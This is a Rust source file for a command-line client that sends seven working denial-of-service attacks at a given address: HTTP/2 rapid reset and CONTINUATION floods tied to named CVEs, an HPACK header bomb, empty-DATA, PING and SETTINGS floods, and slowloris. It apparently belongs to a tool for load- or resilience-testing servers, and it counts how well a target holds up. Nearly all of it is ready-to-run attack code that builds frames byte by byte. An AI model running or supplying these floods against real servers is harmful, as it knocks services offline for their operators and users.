//! Clients that cost a server more than themselves, frame by frame (RFC 9113) and byte by byte.

use std::io;
use std::net::SocketAddr;
use std::path::PathBuf;
use std::sync::{Arc, Mutex, MutexGuard, PoisonError};
use std::time::Duration;

use anyhow::Result;
use clap::{Args, ValueEnum};
use serde::{Deserialize, Serialize};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::net::tcp::{OwnedReadHalf, OwnedWriteHalf};
use tokio::time::{Instant, sleep, timeout_at};

use crate::traffic;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// :method GET, :scheme http, :path /, :authority web (RFC 7541, appendix A).
const HEAD: &[u8] = &[0x82, 0x86, 0x84, 0x41, 3, b'w', b'e', b'b'];
/// Frames that are written at once.
const BURST: usize = 64;
/// Between two bytes of a slow head.
const DRIP: Duration = Duration::from_millis(500);

/// What is sent.
#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum HttpAttack {
    /// Requests that are reset at once (CVE-2023-44487).
    RapidReset,
    /// A head that never ends (CVE-2024-27316).
    Continuation,
    /// A head that is small on the wire and large when decoded.
    HeaderBomb,
    /// DATA frames without data.
    EmptyData,
    /// PING frames, whose answers are not read.
    PingFlood,
    /// SETTINGS frames, whose answers are not read.
    SettingsFlood,
    /// Many connections that send one byte now and then.
    SlowLoris,
}

impl HttpAttack {
    /// All of them.
    pub const ALL: [Self; 7] = [
        Self::RapidReset,
        Self::Continuation,
        Self::HeaderBomb,
        Self::EmptyData,
        Self::PingFlood,
        Self::SettingsFlood,
        Self::SlowLoris,
    ];

    fn name(self) -> String {
        self.to_possible_value()
            .map_or_else(String::new, |value| value.get_name().to_owned())
    }
}

/// A client that attacks.
#[derive(Debug, Clone, Args)]
pub struct HttpAttackOptions {
    /// What is sent.
    #[arg(long, value_enum)]
    pub kind: HttpAttack,
    /// Where to.
    #[arg(long)]
    pub to: SocketAddr,
    /// How long, in milliseconds.
    #[arg(long, default_value_t = 2000)]
    pub milliseconds: u64,
    /// Connections at a time; one that is cut off is replaced.
    #[arg(long, default_value_t = 8)]
    pub connections: u32,
    /// Unix socket that gives the report so far.
    #[arg(long)]
    pub control: Option<PathBuf>,
}

impl HttpAttackOptions {
    /// An attack of two seconds.
    #[must_use]
    pub fn new(kind: HttpAttack, to: SocketAddr) -> Self {
        Self {
            kind,
            to,
            milliseconds: 2000,
            connections: if kind == HttpAttack::SlowLoris {
                512
            } else {
                8
            },
            control: None,
        }
    }

    /// As arguments of `undermesh-traffic`.
    #[must_use]
    pub fn to_args(&self) -> Vec<String> {
        let mut args = vec![
            "attack".to_owned(),
            format!("--kind={}", self.kind.name()),
            format!("--to={}", self.to),
            format!("--milliseconds={}", self.milliseconds),
            format!("--connections={}", self.connections),
        ];
        if let Some(control) = &self.control {
            args.push(format!("--control={}", control.display()));
        }
        args
    }
}

/// What an attacker did, and what was done about it.
#[derive(Debug, Clone, PartialEq, Eq, Default, Serialize, Deserialize)]
pub struct HttpAttackReport {
    /// Connections opened.
    pub connections: u64,
    /// Connections that the other side ended.
    pub cut_off: u64,
    /// Bytes that it took.
    pub bytes: u64,
    /// Frames, or bytes of a slow head, that it took.
    pub frames: u64,
}

type Shared = Arc<Mutex<HttpAttackReport>>;

fn lock(report: &Shared) -> MutexGuard<'_, HttpAttackReport> {
    report.lock().unwrap_or_else(PoisonError::into_inner)
}

/// Attacks, and writes its report to stdout.
pub async fn run(options: HttpAttackOptions) -> Result<()> {
    let report = Shared::default();
    if let Some(control) = options.control.clone() {
        let report = Arc::clone(&report);
        traffic::answer_reports(control, Arc::new(move || lock(&report).clone()))?;
    }
    let end = Instant::now() + Duration::from_millis(options.milliseconds);
    let (kind, to) = (options.kind, options.to);
    let attackers: Vec<_> = (0..options.connections)
        .map(|_| {
            let report = Arc::clone(&report);
            tokio::spawn(async move {
                while Instant::now() < end {
                    let attack = timeout_at(end, once(kind, to, &report)).await;
                    if attack.is_ok() {
                        lock(&report).cut_off += 1;
                        sleep(Duration::from_millis(1)).await;
                    }
                }
            })
        })
        .collect();
    for attacker in attackers {
        attacker.await?;
    }
    println!("{}", serde_json::to_string(&*lock(&report))?);
    Ok(())
}

/// One connection, for as long as the other side keeps it.
async fn once(kind: HttpAttack, to: SocketAddr, report: &Shared) -> io::Result<()> {
    let stream = TcpStream::connect(to).await?;
    stream.set_nodelay(true)?;
    lock(report).connections += 1;
    let (read, write) = stream.into_split();
    if kind == HttpAttack::SlowLoris {
        return drip(write, report).await;
    }
    // Floods of PING and SETTINGS do not read: their answers pile up over there.
    let reading = !matches!(kind, HttpAttack::PingFlood | HttpAttack::SettingsFlood);
    tokio::select! {
        ended = flood(kind, write, report) => ended,
        () = discard(read), if reading => Ok(()),
    }
}

async fn discard(mut read: OwnedReadHalf) {
    let mut buffer = vec![0; 64 * 1024];
    while read.read(&mut buffer).await.is_ok_and(|length| length > 0) {}
}

async fn drip(mut write: OwnedWriteHalf, report: &Shared) -> io::Result<()> {
    write
        .write_all(b"GET / HTTP/1.1\r\nhost: web\r\nx-slow: ")
        .await?;
    loop {
        write.write_all(b"a").await?;
        lock(report).frames += 1;
        sleep(DRIP).await;
    }
}

async fn flood(kind: HttpAttack, mut write: OwnedWriteHalf, report: &Shared) -> io::Result<()> {
    let mut frames = Frames { kind, stream: 1 };
    write.write_all(&frames.opening()).await?;
    loop {
        let mut burst = Vec::new();
        for _ in 0..BURST {
            frames.next(&mut burst);
        }
        write.write_all(&burst).await?;
        let mut report = lock(report);
        report.bytes += burst.len() as u64;
        report.frames += BURST as u64;
    }
}

struct Frames {
    kind: HttpAttack,
    stream: u32,
}

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

impl Frames {
    fn opening(&self) -> Vec<u8> {
        let mut bytes = PREFACE.to_vec();
        frame(&mut bytes, SETTINGS, 0, 0, &[]);
        match self.kind {
            HttpAttack::Continuation => frame(&mut bytes, HEADERS, END_STREAM, 1, HEAD),
            HttpAttack::EmptyData => frame(&mut bytes, HEADERS, END_HEADERS, 1, HEAD),
            _ => {}
        }
        bytes
    }

    fn next(&mut self, bytes: &mut Vec<u8>) {
        let stream = self.stream;
        match self.kind {
            HttpAttack::RapidReset => {
                frame(bytes, HEADERS, END_HEADERS | END_STREAM, stream, HEAD);
                // CANCEL
                frame(bytes, RST_STREAM, 0, stream, &8_u32.to_be_bytes());
                self.stream = (stream + 2) & 0x7fff_ffff;
            }
            HttpAttack::Continuation => {
                // x: y, never indexed
                let field = [0x10, 1, b'x', 1, b'y'];
                frame(bytes, CONTINUATION, 0, 1, &field.repeat(20));
            }
            HttpAttack::HeaderBomb => {
                let mut block = HEAD.to_vec();
                // cookie (index 32 of the static table), with a value of 2,000 bytes, into the dynamic table …
                block.extend([0x60, 0x7f, 0xd1, 0x0e]);
                block.resize(block.len() + 2000, b'c');
                // … and again and again, a byte each.
                block.resize(block.len() + 10_000, 0x80 | 62);
                let flags = END_HEADERS | END_STREAM;
                frame(bytes, HEADERS, flags, stream, &block);
                self.stream = (stream + 2) & 0x7fff_ffff;
            }
            HttpAttack::EmptyData => frame(bytes, DATA, 0, 1, &[]),
            HttpAttack::PingFlood => frame(bytes, PING, 0, 0, &[0; 8]),
            HttpAttack::SettingsFlood => frame(bytes, SETTINGS, 0, 0, &[]),
            HttpAttack::SlowLoris => {}
        }
    }
}

fn frame(bytes: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    // Payloads here are far below 2^24.
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    bytes.extend(&length[1..]);
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_frame_is_its_length_kind_flags_stream_and_payload() {
        let mut bytes = Vec::new();
        frame(&mut bytes, PING, 1, 3, &[7; 8]);
        assert_eq!(bytes[..9], [0, 0, 8, 6, 1, 0, 0, 0, 3]);
        assert_eq!(bytes.len(), 17);
    }

    #[test]
    fn every_attack_has_a_name_on_the_command_line() {
        for kind in HttpAttack::ALL {
            assert_eq!(
                HttpAttack::from_str(&kind.name(), false).as_ref(),
                Ok(&kind)
            );
        }
    }
}
